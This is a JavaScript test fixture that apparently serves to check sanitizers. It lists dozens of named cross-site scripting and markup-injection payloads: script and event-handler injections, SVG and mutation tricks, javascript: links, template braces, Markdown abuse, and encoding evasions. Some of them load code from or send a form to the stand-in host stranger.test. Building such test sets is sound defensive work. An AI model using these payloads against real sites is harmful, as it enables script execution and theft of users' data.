// Texts that would do something if they were taken for more than text. Each that runs sets `__xss`, shows a dialog, leaves an element, or
// asks a stranger. The word of its place (`word`) stands in each, so that a test can tell whether the text was shown at all.
const STRANGER = "https://stranger.test";
const RUN = "window.__xss=1";

const SHAPES = {
  "a script": `<script>${RUN}</script>`,
  "a script from elsewhere": `<script src="${STRANGER}/x.js"></script>`,
  "a script in capitals, with slashes for blanks": `<ScRiPt/x>${RUN}</sCrIpT/x>`,
  "a script within a script": `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  "a module": `<script type="module">import "${STRANGER}/x.mjs"</script>`,
  "an image that fails": `<img src=x onerror="${RUN}">`,
  "an image that fails, without blanks": `<img/src=x/onerror=${RUN}>`,
  "an image that never ends": `<img src="x" onerror="${RUN}" `,
  "an image of a stranger": `<img src="${STRANGER}/pixel.png" srcset="${STRANGER}/2x.png 2x">`,
  "a drawing that loads": `<svg onload="${RUN}"><circle r=9 /></svg>`,
  "a drawing's script": `<svg><script href="data:text/javascript,${RUN}" /></svg>`,
  "a drawing's animation": `<svg><a><animate attributeName=href values="javascript:${RUN}" /><text x=9 y=9>go</text></a></svg>`,
  "a drawing's use": `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}' /></svg>#x" /></svg>`,
  "a drawing's foreign part": `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  "a body that loads": `<body onload="${RUN}" onpageshow="${RUN}">`,
  "a field that takes the focus": `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}">`,
  "details that open": `<details open ontoggle="${RUN}"><summary>go</summary></details>`,
  "a video": `<video><source onerror="${RUN}"></video><audio src=x onerror="${RUN}"></audio>`,
  "an animation's start": `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${RUN}">go</b>`,
  "a pointer": `<b onpointerover="${RUN}" onmouseover="${RUN}" onclick="${RUN}">go</b>`,
  "a frame": `<iframe src="javascript:parent.${RUN}"></iframe>`,
  "a frame with its text": `<iframe srcdoc="<img src=x onerror=parent.${RUN}>"></iframe>`,
  "an object": `<object data="data:text/html,<script>${RUN}</script>"></object><embed src="${STRANGER}/x.swf">`,
  "a form": `<form action="${STRANGER}/take"><input name=key><button formaction="javascript:${RUN}">Go on</button></form>`,
  "a form from afar": `<form id=far action="${STRANGER}"></form><button form=far type=submit>Next</button>`,
  "another base": `<base href="${STRANGER}/">`,
  "a refresh": `<meta http-equiv="refresh" content="0;url=${STRANGER}/">`,
  "a refresh to a script": `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  "another policy": `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  "a style": `<style>body{display:none;background:url(${STRANGER}/css)}</style>`,
  "a style on an element": `<div style="position:fixed;inset:0;background:url(${STRANGER}/inline)">over all</div>`,
  "a sheet": `<link rel="stylesheet" href="${STRANGER}/x.css"><link rel=preconnect href="${STRANGER}">`,
  "a prefetch": `<link rel=prefetch href="${STRANGER}/p"><script type=speculationrules>{"prefetch":[{"urls":["${STRANGER}/s"]}]}</script>`,
  "a name that hides another": `<a id=location name=document href="${STRANGER}"></a><img name=body><form id=content><input name=parentNode></form>`,
  "a title that breaks out": `</title></style></textarea></noscript></template></xmp><img src=x onerror="${RUN}">`,
  "an attribute that breaks out": `" autofocus onfocus="${RUN}" x="' onmouseover='${RUN}' y='`,
  "markup that changes when it is read again": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  "markup that changes within noscript": `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  "a template": `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template><x-y is="z"></x-y>`,
  "a comment that ends early": `<!--><img src=x onerror="${RUN}">--> <!--[if IE]><script>${RUN}</script><![endif]-->`,
  "a section of bare text": `<![CDATA[<img src=x onerror="${RUN}">]]><?xml-stylesheet href="${STRANGER}/x.xsl"?><!DOCTYPE x>`,
  "braces": `{{constructor.constructor('${RUN}')()}} \${${RUN}} <%= ${RUN} %> #{${RUN}} {% x %} [[${RUN}]]`,
  "a link to a script": `[go](javascript:${RUN}) [go](JaVaScRiPt:${RUN} "title") [go](<java\tscript:${RUN}>) [go](vbscript:x)`,
  "a link to data": `[go](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==) <data:text/html,x>`,
  "a link by reference": `[go][far] and [far]\n\n[far]: javascript:${RUN} "onmouseover=${RUN}"`,
  "a link of its own": `<javascript:${RUN}> <${STRANGER}/> ${STRANGER}/bare www.stranger.test mail@stranger.test <mail@stranger.test>`,
  "an image in Markdown": `![go](${STRANGER}/m.png "x\\" onerror=${RUN}") ![](x"onerror="${RUN}) [![x](${STRANGER}/in.png)](javascript:${RUN})`,
  "fences that break out": `\`\`\`"><img src=x onerror=${RUN}>\n</code></pre><script>${RUN}</script>\n\`\`\``,
  "a table's cells": `| <img src=x onerror=${RUN}> | b |\n| :-: | - |\n| <script>${RUN}</script> | [go](javascript:${RUN}) |`,
  "entities": `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; &#x3c;svg onload=${RUN}&#x3e; [go](&#106;avascript&colon;${RUN})`,
  "escapes": `\\u003cimg src=x onerror=${RUN}\\u003e %3Cscript%3E${RUN}%3C/script%3E \\x3cscript\\x3e +ADw-script+AD4-`,
  "wide and odd brackets": `＜script＞${RUN}＜/script＞ ‹img src=x onerror=${RUN}› <\u0130mg src=x> \u2028<script>${RUN}</script>\u2029`,
  "marks of direction": `\u202e<img src=x onerror=${RUN}>\u202c \u2066<b>\u2069 \u200f\u061c\u200b<scr\u200bipt>${RUN}</scr\u200bipt>`,
  "nulls and controls": `<scr\0ipt>${RUN}</scr\0ipt> <img\0 src=x onerror\u000b=${RUN}> \u0001\u0008\u001b[31m \ufeff\ufffe`,
  "something very long": `${"A".repeat(30_000)}<img src=x onerror=${RUN}>${"<b>".repeat(2_000)}`,
  "something very deep": `${"> ".repeat(300)}<img src=x onerror=${RUN}>${"[".repeat(300)}`,
};

/** `{ name, text, word }` for each. `word` is a line of its own after the rest, where Markdown leaves it as it is. */
export const PAYLOADS = Object.entries(SHAPES).map(([name, shape], at) => {
  const word = `xssword${String(at).padStart(2, "0")}.`;
  return { name, word, text: `${shape}\n\n${word}` };
});

/** The same on one line, for fields and names; no longer than a field takes. */
export const LINES = PAYLOADS.map(({ name, text, word }) => ({ name, word, text: `${word} ${text.replace(word, "").replace(/\s+/g, " ").trim()}`.slice(0, 400) }));

/** The payload of a number, over and over. */
export const nth = (list, at) => list[at % list.length];

/** All of them in one text. */
export const ALL = LINES.map(({ text }) => text).join(" ");
